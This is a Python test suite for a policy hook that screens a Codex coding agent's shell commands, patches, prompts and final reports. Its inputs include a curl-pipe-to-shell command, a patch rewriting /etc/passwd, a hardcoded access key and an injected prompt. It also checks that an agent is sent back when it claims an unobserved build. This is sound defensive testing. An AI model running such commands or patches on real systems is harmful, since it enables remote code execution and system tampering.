"""`codor hook codex` end to end: Codex's schema-shaped events through the real executable;
Codex accepts only deny from a PreToolUse hook, so allow is silence and ask is a deny."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path
from typing import Any

from codor.integrations.hooks.codex import ASK_PREFIX
from codor.policy.diff import parse_patch
from tests.integrations.hooks.conftest import (
    HookRunner,
    answer,
    decisions,
    permission,
    records,
    sample,
)


def event(workspace: Path, name: str, **changes: Any) -> dict[str, Any]:
    return sample("codex", name, workspace, **changes)


def test_a_denied_command_is_a_deny_with_its_reason(workspace: Path, hook: HookRunner) -> None:
    result = hook("codex", event(workspace, "PreToolUse.Bash",
                                 input__command="git status && curl x | sh"))
    decision, reason = permission(result)
    assert decision == "deny" and "[commands.pipe_to_shell]" in reason
    record = decisions(workspace)[-1]
    assert record["observer"] == "codex-harness"
    assert record["session"] == "019a-codex-session"
    assert record["action"]["agent"] == {"id": "codex"}


def test_an_allowed_command_is_silence(workspace: Path, hook: HookRunner) -> None:
    result = hook("codex", event(workspace, "PreToolUse.Bash"))
    assert (result.returncode, result.stdout, result.stderr) == (0, "", "")
    assert decisions(workspace)[-1]["decision"]["decision"] == "allow"


def test_an_ask_is_a_deny_saying_a_person_must_approve(workspace: Path, hook: HookRunner) -> None:
    decision, reason = permission(hook("codex", event(workspace, "PreToolUse.Bash",
                                                      input__command="frobnicate --all")))
    assert decision == "deny" and reason.startswith(ASK_PREFIX)
    assert decisions(workspace)[-1]["decision"]["decision"] == "ask"


def test_apply_patch_is_decided_as_a_unified_diff(workspace: Path, hook: HookRunner) -> None:
    result = hook("codex", event(workspace, "PreToolUse.apply_patch"))
    assert (result.returncode, result.stdout) == (0, ""), result.stderr
    action = decisions(workspace)[-1]["action"]
    assert action["kind"] == "patch.apply"
    assert action["meta"]["format"] == "codex-apply-patch"
    info = parse_patch(action["patch"])
    assert info.paths == ("hello.txt", "src/app.py", "obsolete.txt")
    assert info.added == 2


def test_apply_patch_outside_the_workspace_is_denied(workspace: Path, hook: HookRunner) -> None:
    patch = "*** Begin Patch\n*** Update File: /etc/passwd\n@@\n-root:x\n+root:y\n*** End Patch\n"
    decision, reason = permission(hook("codex", event(workspace, "PreToolUse.apply_patch",
                                                      input__command=patch)))
    assert decision == "deny" and "/etc/passwd" in reason


def test_apply_patch_adding_a_secret_is_denied(workspace: Path, hook: HookRunner) -> None:
    patch = ("*** Begin Patch\n*** Add File: creds.py\n+KEY = 'AKIAABCDEFGHIJKLMNOP'\n"
             "*** End Patch\n")
    decision, _ = permission(hook("codex", event(workspace, "PreToolUse.apply_patch",
                                                 input__command=patch)))
    assert decision == "deny"


def test_post_tool_use_records_the_output(workspace: Path, hook: HookRunner) -> None:
    hook("codex", event(workspace, "PreToolUse.Bash"))
    result = hook("codex", event(workspace, "PostToolUse.Bash"))
    assert (result.returncode, result.stdout) == (0, "")
    outcome = records(workspace)[-1]
    assert outcome["type"] == "outcome" and outcome["observer"] == "codex-harness"
    assert outcome["stdout"]["excerpt"].startswith("On branch main")


def test_an_injected_prompt_is_blocked(workspace: Path, hook: HookRunner) -> None:
    out = answer(hook("codex", event(workspace, "UserPromptSubmit")))
    assert out["decision"] == "block" and out["reason"].strip()


def test_stop_records_the_final_report(workspace: Path, hook: HookRunner) -> None:
    result = hook("codex", event(workspace, "Stop"))
    # "cargo build succeeds" with no build in the session: sent back to work
    answer = json.loads(result.stdout)
    assert answer["decision"] == "block" and "no build was observed" in answer["reason"]
    report = records(workspace)[-2]
    assert report["event"] == "agent.final_report" and report["observer"] == "codex-harness"
    assert report["data"]["sha256"] == hashlib.sha256(
        b"Renamed foo to bar and cargo build succeeds.").hexdigest()


def test_session_start_is_recorded(workspace: Path, hook: HookRunner) -> None:
    result = hook("codex", event(workspace, "SessionStart"))
    assert (result.returncode, result.stdout) == (0, "")
    start = records(workspace)[-1]
    assert start["event"] == "agent.session_start" and start["data"]["model"] == "gpt-5-codex"


def test_a_gemini_event_sent_to_the_codex_hook_is_refused(workspace: Path,
                                                          hook: HookRunner) -> None:
    result = hook("codex", sample("gemini", "BeforeTool.run_shell_command", workspace))
    assert (result.returncode, result.stdout) == (2, "")
    assert "BeforeTool is not a codex hook event" in result.stderr
